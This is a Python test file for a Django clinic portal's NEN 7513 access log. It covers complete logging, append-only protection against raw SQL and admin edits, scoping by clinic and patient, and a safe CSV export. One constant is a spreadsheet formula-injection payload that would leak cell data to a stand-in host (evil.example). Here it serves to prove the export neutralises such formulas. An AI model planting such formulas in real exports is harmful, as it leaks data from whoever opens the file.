"""T31-T33: the NEN 7513 access log records every staff event, cannot be altered, is scoped."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.db import DatabaseError, connection, transaction
from django.urls import reverse
from django.utils import timezone

from clinics.models import AccessAction, AccessLogEntry, AccessOutcome
from patients.models import Patient
from patients.tests.factories import PatientFactory

CLIENT = {"REMOTE_ADDR": "203.0.113.7", "HTTP_USER_AGENT": "Mozilla/5.0 (Portaltest) Firefox/140"}
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


def the_new_entry(since_pk: int) -> AccessLogEntry:
    """The one entry written after `since_pk`; fails when an event wrote none or several."""
    entries = list(AccessLogEntry.objects.filter(pk__gt=since_pk))
    assert len(entries) == 1, entries
    return entries[0]


def cells(page: str, text: str) -> int:
    """How many table cells hold exactly `text` (whitespace around it aside)."""
    return len(re.findall(rf">\s*{re.escape(text)}\s*</td>", page))


def last_pk() -> int:
    return AccessLogEntry.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


def assert_entry(entry: AccessLogEntry, *, user, role, clinic, action, path, patient=None, **more):
    """Every field of an entry: who, role, clinic, patient, what, outcome, where from, when."""
    expected = {
        "user": user,
        "user_label": user.email,
        "role": role,
        "clinic": clinic,
        "patient_id": patient.pk if patient else None,
        "action": action,
        "outcome": AccessOutcome.SUCCESS,
        "object_type": "patients.patient" if patient else "",
        "object_id": str(patient.pk) if patient else "",
        "part": "",
        "ip_address": CLIENT["REMOTE_ADDR"],
        "user_agent": CLIENT["HTTP_USER_AGENT"],
        "path": path,
        **more,
    }
    assert {name: getattr(entry, name) for name in expected} == expected
    assert entry.occurred_at.utcoffset() == datetime.timedelta(0)
    assert abs(timezone.now() - entry.occurred_at) < datetime.timedelta(minutes=1)


def export_rows(client, **filters) -> list[dict[str, str]]:
    response = client.get(reverse("clinics:access_log_export"), filters, **CLIENT)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body)))


# --- T31: one entry per event, with every field ----------------------------------------------


def test_reading_a_patient_record_is_logged_with_every_field(
    client_for, alice, clinic_a, patient_a
):
    """Opening a record writes one read entry naming the user, role, patient, part and origin."""
    start = last_pk()
    path = reverse("patients:detail", args=[patient_a.pk])
    assert client_for(alice).get(path, **CLIENT).status_code == 200
    assert_entry(
        the_new_entry(start),
        user=alice,
        role="professional",
        clinic=clinic_a,
        patient=patient_a,
        action=AccessAction.READ,
        part="profile",
        path=path,
    )


def test_updating_a_patient_record_is_logged_once(client_for, alice, clinic_a, patient_a):
    """Saving the edit form writes one update entry (the form's own GET is a read)."""
    client = client_for(alice)
    path = reverse("patients:edit", args=[patient_a.pk])
    start = last_pk()
    data = {
        "given_name": "Paul",
        "family_name": "de Vries-Bakker",
        "date_of_birth": "1970-05-17",
        "email": "paul@patient.example",
        "phone": "",
        "notes": "",
    }
    response = client.post(path, data, **CLIENT)
    assert response.status_code == 302
    assert_entry(
        the_new_entry(start),
        user=alice,
        role="professional",
        clinic=clinic_a,
        patient=patient_a,
        action=AccessAction.UPDATE,
        part="profile",
        path=path,
    )


def test_creating_a_patient_record_is_logged_once(client_for, adam, clinic_a):
    """Creating a record writes one create entry for the new patient, by the clinic admin."""
    start = last_pk()
    path = reverse("patients:create")
    data = {"given_name": "Fenna", "family_name": "Hoekstra", "date_of_birth": "1988-02-29"}
    assert client_for(adam).post(path, data, **CLIENT).status_code == 302
    patient = Patient.objects.for_clinic(clinic_a).get()
    assert_entry(
        the_new_entry(start),
        user=adam,
        role="clinic_admin",
        clinic=clinic_a,
        patient=patient,
        action=AccessAction.CREATE,
        part="profile",
        path=path,
    )


def test_a_search_without_matches_is_logged_once_without_the_search_term(
    client_for, alice, clinic_a
):
    """A name search that finds nobody writes one search entry; the name itself is not stored."""
    start = last_pk()
    path = reverse("patients:list")
    assert client_for(alice).get(path, {"q": "Zwaantje"}, **CLIENT).status_code == 200
    entry = the_new_entry(start)
    assert_entry(
        entry,
        user=alice,
        role="professional",
        clinic=clinic_a,
        action=AccessAction.SEARCH,
        part="name",
        path=path,
    )
    assert "zwaantje" not in str(vars(entry)).lower()


def test_a_search_logs_each_patient_it_shows(client_for, alice, clinic_a, patient_a):
    """Each patient a search shows gets a search entry of its own; the name is not stored."""
    PatientFactory(clinic=clinic_a, given_name="Zwaantje", family_name="Hoek")
    start = last_pk()
    path = reverse("patients:list")
    assert client_for(alice).get(path, {"q": "Paul"}, **CLIENT).status_code == 200
    entry = the_new_entry(start)
    assert_entry(
        entry,
        user=alice,
        role="professional",
        clinic=clinic_a,
        action=AccessAction.SEARCH,
        patient=patient_a,
        part="measurements",
        path=path,
    )
    assert "paul" not in str(vars(entry)).lower().replace("/patients/", "")


def test_viewing_the_access_log_is_itself_logged(client_for, adam, clinic_a):
    """Opening the clinic's access log writes one log-access entry."""
    start = last_pk()
    path = reverse("clinics:access_log")
    assert client_for(adam).get(path, **CLIENT).status_code == 200
    assert_entry(
        the_new_entry(start),
        user=adam,
        role="clinic_admin",
        clinic=clinic_a,
        action=AccessAction.LOG_ACCESS,
        path=path,
    )


def test_exporting_the_access_log_is_logged(client_for, adam, clinic_a):
    """Downloading the CSV writes one export entry for the access log."""
    start = last_pk()
    export_rows(client_for(adam))
    assert_entry(
        the_new_entry(start),
        user=adam,
        role="clinic_admin",
        clinic=clinic_a,
        action=AccessAction.EXPORT,
        part="access log",
        path=reverse("clinics:access_log_export"),
    )


def test_another_clinics_record_is_not_logged_as_read(client_for, alice, patient_b):
    """A 404 for clinic B's record neither shows it nor writes a read entry about it."""
    start = last_pk()
    response = client_for(alice).get(reverse("patients:detail", args=[patient_b.pk]), **CLIENT)
    assert response.status_code == 404
    assert not AccessLogEntry.objects.filter(pk__gt=start, patient_id=patient_b.pk).exists()


# --- T32: the application cannot alter the log ----------------------------------------------


@pytest.fixture
def entry(client_for, alice, patient_a):
    client_for(alice).get(reverse("patients:detail", args=[patient_a.pk]), **CLIENT)
    return AccessLogEntry.objects.get()


def test_saving_an_existing_entry_is_refused(entry):
    """The model refuses to save an entry twice, so no field can be changed through it."""
    entry.part = "nothing happened"
    with pytest.raises(PermissionError):
        entry.save()
    assert AccessLogEntry.objects.get().part == "profile"


def test_deleting_entries_is_refused_by_the_model_and_the_queryset(entry):
    """Neither delete() on an entry nor update()/delete() on a queryset can touch the log."""
    with pytest.raises(PermissionError):
        entry.delete()
    with pytest.raises(PermissionError):
        AccessLogEntry.objects.filter(pk=entry.pk).update(part="x")
    with pytest.raises(PermissionError):
        AccessLogEntry.objects.filter(pk=entry.pk).delete()
    with pytest.raises(PermissionError):
        AccessLogEntry.objects.all().delete()
    assert AccessLogEntry.objects.get().part == "profile"


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE clinics_accesslogentry SET part = 'x' WHERE id = %s",
        "DELETE FROM clinics_accesslogentry WHERE id = %s",
    ],
    ids=["update", "delete"],
)
def test_postgresql_refuses_raw_sql_changes_to_the_log(entry, sql):
    """A trigger refuses UPDATE and DELETE on the table, whatever code path sends them."""
    assert connection.vendor == "postgresql"
    with (
        pytest.raises(DatabaseError, match="append-only"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute(sql, [entry.pk])
    assert AccessLogEntry.objects.get().part == "profile"


@pytest.mark.parametrize(
    "sql",
    [
        "TRUNCATE clinics_accesslogentry",
        "TRUNCATE clinics_accesslogentry RESTART IDENTITY CASCADE",
    ],
    ids=["plain", "cascade"],
)
def test_postgresql_refuses_truncating_the_log(entry, sql):
    """A statement-level trigger refuses TRUNCATE, which the row-level one never sees."""
    with (
        pytest.raises(DatabaseError, match="append-only"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute(sql)
    assert AccessLogEntry.objects.get().part == "profile"


def test_admin_shows_the_log_read_only_even_to_the_operator(client_for, oscar, entry):
    """The verified superuser gets no add, change or delete in the admin; posts are refused."""
    client = client_for(oscar)
    change_url = reverse("admin:clinics_accesslogentry_change", args=[entry.pk])
    page = client.get(change_url)
    assert page.status_code == 200
    content = page.content.decode()
    assert 'name="_save"' not in content
    assert "<textarea" not in content and 'name="part"' not in content
    assert client.post(change_url, {"part": "x"}).status_code == 403
    delete_url = reverse("admin:clinics_accesslogentry_delete", args=[entry.pk])
    assert client.get(delete_url).status_code == 403
    assert client.post(delete_url, {"post": "yes"}).status_code == 403
    assert client.get(reverse("admin:clinics_accesslogentry_add")).status_code == 403
    changelist = client.get(reverse("admin:clinics_accesslogentry_changelist"))
    assert changelist.status_code == 200
    assert 'name="action"' not in changelist.content.decode()
    assert AccessLogEntry.objects.filter(pk=entry.pk, part="profile").exists()


# --- the clinic admin's page: filters and CSV export -----------------------------------------


def make_entry(clinic, user, *, patient=None, days_ago=0, agent="Firefox", action="read"):
    """An entry as access_log_record writes it, dated in the past for the period filters."""
    return AccessLogEntry.objects.create(
        clinic=clinic,
        user=user,
        user_label=user.email,
        role="professional",
        patient=patient,
        action=action,
        object_type="patients.patient" if patient else "",
        object_id=str(patient.pk) if patient else "",
        part="profile",
        ip_address="198.51.100.9",
        user_agent=agent,
        path="/patients/",
        occurred_at=timezone.now() - datetime.timedelta(days=days_ago),
    )


@pytest.fixture
def history(clinic_a, alice, adam, patient_a):
    """Alice read Paul 10 days ago and today; adam read Paul's neighbour today."""
    neighbour = PatientFactory(clinic=clinic_a, given_name="Nina", family_name="Buurman")
    return {
        "old": make_entry(clinic_a, alice, patient=patient_a, days_ago=10),
        "today": make_entry(clinic_a, alice, patient=patient_a, agent=FORMULA_AGENT),
        "neighbour": make_entry(clinic_a, adam, patient=neighbour),
        "neighbour_patient": neighbour,
    }


def ids(rows: list[dict[str, str]]) -> list[tuple[str, str]]:
    return [(r["user"], r["patient_id"]) for r in rows]


def test_export_filters_by_patient_user_and_period(client_for, adam, alice, patient_a, history):
    """The CSV holds exactly the entries the filters select, newest first."""
    client = client_for(adam)
    paul = str(patient_a.pk)
    assert ids(export_rows(client, patient=patient_a.pk)) == [(alice.email, paul)] * 2
    by_alice = export_rows(client, user=alice.pk)
    assert ids(by_alice) == [(alice.email, paul)] * 2
    assert by_alice[0]["occurred_at_utc"] > by_alice[1]["occurred_at_utc"]
    today = timezone.localdate()
    recent = export_rows(client, user=alice.pk, since=today - datetime.timedelta(days=1))
    assert ids(recent) == [(alice.email, paul)]
    earlier = export_rows(client, patient=patient_a.pk, until=today - datetime.timedelta(days=5))
    assert [r["occurred_at_utc"] for r in earlier] == [
        history["old"].occurred_at.astimezone(datetime.UTC).isoformat()
    ]
    assert earlier[0]["occurred_at_utc"].endswith("+00:00")


def test_access_log_page_filters_by_patient_and_user(client_for, adam, alice, patient_a, history):
    """The HTML page lists only the filtered entries."""
    client = client_for(adam)
    neighbour = history["neighbour_patient"]
    page = client.get(reverse("clinics:access_log"), {"patient": neighbour.pk}).content.decode()
    # The user filter's options list the team: look at the table cells (">…</td>") only.
    assert cells(page, "adam@noord.example") == 1
    assert cells(page, "alice@noord.example") == 0
    page = client.get(reverse("clinics:access_log"), {"user": alice.pk}).content.decode()
    assert cells(page, "alice@noord.example") == 2
    assert cells(page, "adam@noord.example") == 0
    assert neighbour.full_name not in page


def test_export_neutralises_spreadsheet_formulas(client_for, adam, patient_a, history):
    """A user agent starting with '=' is exported behind a quote, so no spreadsheet runs it."""
    rows = export_rows(client_for(adam), patient=patient_a.pk)
    agents = [r["user_agent"] for r in rows]
    assert "'" + FORMULA_AGENT in agents
    assert FORMULA_AGENT not in agents


def test_formula_in_a_real_request_is_neutralised_in_the_export(client_for, alice, adam, patient_a):
    """End to end: a staff browser sending a formula as user agent cannot plant it in the CSV."""
    url = reverse("patients:detail", args=[patient_a.pk])
    client_for(alice).get(url, HTTP_USER_AGENT=FORMULA_AGENT, REMOTE_ADDR="192.0.2.1")
    (row,) = export_rows(client_for(adam), patient=patient_a.pk)
    assert row["user_agent"] == "'" + FORMULA_AGENT


# --- T33 and tenancy: who sees which entries -------------------------------------------------


def test_patient_sees_entries_about_their_own_record_only(client_for, paul, history, bea):
    """Paul sees alice's reads of his record, not adam's read of another patient."""
    client = client_for(paul)
    page = client.get(reverse("patients:my_access_log")).content.decode()
    assert cells(page, "alice@noord.example") == 2
    assert "adam@noord.example" not in page
    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
    page = client.get(reverse("patients:my_access_log"), {"since": tomorrow}).content.decode()
    assert "alice@noord.example" not in page


def test_patient_does_not_see_entries_about_a_namesake_in_another_clinic(
    client_for, paul, charlie, clinic_b
):
    """An entry about a clinic-B patient never reaches Paul, whatever the names."""
    namesake = PatientFactory(clinic=clinic_b, given_name="Paul", family_name="de Vries")
    make_entry(clinic_b, charlie, patient=namesake)
    page = client_for(paul).get(reverse("patients:my_access_log")).content.decode()
    assert "charlie@zuid.example" not in page


def test_staff_cannot_open_a_patients_own_access_log(client_for, alice, patient_a):
    """The patient's page of their own log is for patients; staff are refused."""
    assert client_for(alice).get(reverse("patients:my_access_log")).status_code == 403


def test_other_clinics_admin_never_sees_clinic_a_entries(
    client_for, bea, alice, patient_a, history
):
    """Clinic B's admin gets none of clinic A's entries, even when filtering on A's ids."""
    client = client_for(bea)
    for filters in ({}, {"patient": patient_a.pk}, {"user": alice.pk}):
        page = client.get(reverse("clinics:access_log"), filters).content.decode()
        assert "alice@noord.example" not in page and "adam@noord.example" not in page
        rows = export_rows(client, **filters)
        assert all(r["user"] == "bea@zuid.example" for r in rows), rows


def test_the_clinic_log_names_people_and_patients(
    client_for, adam, alice, patient_a, history, django_assert_max_num_queries
):
    """The admin reads who (name and address) looked at which patient (name and number), in a
    fixed number of queries however many entries the page holds."""
    alice.display_name = "Alice Fysio"
    alice.save(update_fields=["display_name"])
    client = client_for(adam)
    client.get(reverse("clinics:access_log"))
    with django_assert_max_num_queries(12):
        page = client.get(reverse("clinics:access_log")).content.decode()
    assert "Alice Fysio" in page and alice.email in page
    assert f"{patient_a.full_name}" in page and "Nina Buurman" in page


def test_the_team_page_shows_names(client_for, adam, alice):
    """Staff are listed by name beside their address."""
    alice.display_name = "Alice Fysio"
    alice.save(update_fields=["display_name"])
    page = client_for(adam).get(reverse("clinics:staff")).content.decode()
    assert "Alice Fysio" in page and alice.email in page
